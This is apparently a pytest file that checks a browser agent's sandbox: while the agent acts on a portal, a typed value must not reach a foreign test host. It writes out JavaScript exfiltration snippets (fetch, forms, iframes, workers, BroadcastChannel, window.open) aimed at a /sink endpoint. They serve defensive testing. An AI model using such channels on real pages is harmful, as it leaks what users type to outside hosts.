"""In the person's own browser their other tabs go on undisturbed, and none of the portal's is a way out."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import BrowserContext, Page
from submits.harness import Corpus
from submits.server import FOREIGN, HOST

from acepilot.browser.surface import Surface

VALUE = "000123456789"
PORTAL, OTHER = f"https://{HOST}", f"https://{FOREIGN}"
FIRST, SECOND = f"{OTHER}/other.html", f"{PORTAL}/other.html"
POST = """([path, body]) => fetch(path, { method: "POST", body, mode: "no-cors" }).then(() => 0, () => 0)"""
BYTES = (
    """(path) => fetch(path, { method: "POST", body: new Uint8Array([255, 254]) }).then(() => 0, () => 0)"""
)
IN_FRAME = """([path, body]) => new Promise((resolve) => {
  const frame = document.createElement("iframe");
  frame.onload = () => frame.contentWindow.fetch(path, { method: "POST", body }).then(resolve, resolve);
  frame.src = "/other.html";
  document.body.append(frame);
}).then(() => 0)"""
FORM = """([path, body]) => {
  const form = Object.assign(document.createElement("form"), { method: "post", action: path });
  form.append(Object.assign(document.createElement("input"), { name: "a", value: body }));
  document.body.append(form);
  form.submit();
}"""
EMBED = """(url) => new Promise((resolve) => {
  document.body.append(Object.assign(document.createElement("iframe"), { src: url, onload: resolve }));
}).then(() => 0)"""
AT_OTHER = f"(name, value) => `{OTHER}/sink/${{name}}?value=${{value}}`"
WAYS_OUT = {
    "own": """fetch("/sink/own", { method: "POST", body: value })""",
    "in-worker": """new Worker(URL.createObjectURL(new Blob([
      `fetch("${at("in-worker", value)}", { mode: "no-cors" })`])))""",
    "sink": """new SharedWorker("/shared-worker.js").port.postMessage(value)""",
    "channel": """new BroadcastChannel("x").postMessage(value)""",
    "opened": """open(at("opened", value))""",
    "opened-noopener": """open(at("opened-noopener", value), "_blank", "noopener")""",
    "pressed": """Object.assign(document.createElement("a"), { href: at("pressed", value) })
      .dispatchEvent(new MouseEvent("click", { ctrlKey: true }))""",
    "in-frame": """document.body.append(
      Object.assign(document.createElement("iframe"), { src: at("in-frame", value) }))""",
}
LISTENS = """() => {
  new BroadcastChannel("x").onmessage = ({ data }) => fetch("/sink/channel", { method: "POST", body: data });
}"""


def at_work(context: BrowserContext) -> tuple[Surface, Page, Page]:
    """Return acepilot at work on the portal, and two tabs of the person's: of another site, and of the portal."""
    theirs, portals = context.new_page(), context.new_page()
    theirs.goto(FIRST)
    portals.goto(SECOND)
    surface = Surface(context, (HOST,), is_shared=True)
    surface.page.goto(SECOND)
    theirs.reload()
    portals.reload()  # what was there before the net slips it
    return surface, theirs, portals


def arrived(corpus: Corpus) -> set[str]:
    """Return what the server was sent since the last cut."""
    return {one.form for one in corpus.server.cut()}


def ways_out(surface: Surface, portals: Page) -> Iterator[str]:
    """Try each way out of acepilot's tab; yield its name."""
    portals.evaluate(LISTENS)
    for name, script in WAYS_OUT.items():
        surface.page.evaluate(f"(value) => {{ const at = {AT_OTHER}; {script}; }}", VALUE)
        surface.wait(400)
        yield name


@pytest.mark.long
def test_other_tabs_go_on_undisturbed(corpus: Corpus) -> None:
    """What another tab of the person's sends in acepilot's turn arrives, even if it carries what was typed.

    The control: the same is stopped once that tab's site is one of the portal's page.
    """

    def act(context: BrowserContext) -> list[set[str]]:
        surface, theirs, _ = at_work(context)
        surface.turn.take()
        surface.turn.before_act(VALUE)

        def send() -> set[str]:
            theirs.evaluate(POST, ["/sink/posted", VALUE])
            theirs.evaluate(BYTES, "/sink/bytes")
            theirs.evaluate(IN_FRAME, ["/sink/framed", VALUE])
            theirs.evaluate(FORM, ["/sink/form", VALUE])
            surface.wait(500)
            return arrived(corpus)

        undisturbed = send()
        theirs.goto(FIRST)
        surface.page.evaluate(EMBED, FIRST)
        arrived(corpus)
        return [undisturbed, send()]

    assert corpus.with_browser(act) == [{"posted", "bytes", "framed", "form"}, set()]


@pytest.mark.full
def test_no_tab_of_the_portals_is_a_way_out(corpus: Corpus) -> None:
    """Workers, what the page opens, and other tabs that it tells are held; each sends in the person's turn."""

    def act(context: BrowserContext) -> tuple[set[str], tuple[str, ...], set[str]]:
        surface, _, portals = at_work(context)
        surface.turn.take()
        surface.turn.before_act(VALUE)
        list(ways_out(surface, portals))
        told, held = surface.side_channels.open_now(), arrived(corpus)
        surface.turn.hand_over()
        list(ways_out(surface, portals))
        return held, told, arrived(corpus)

    held, told, sent = corpus.with_browser(act)
    assert held == set()
    assert f"another tab of the portal, {SECOND}" in told
    assert sent == set(WAYS_OUT)
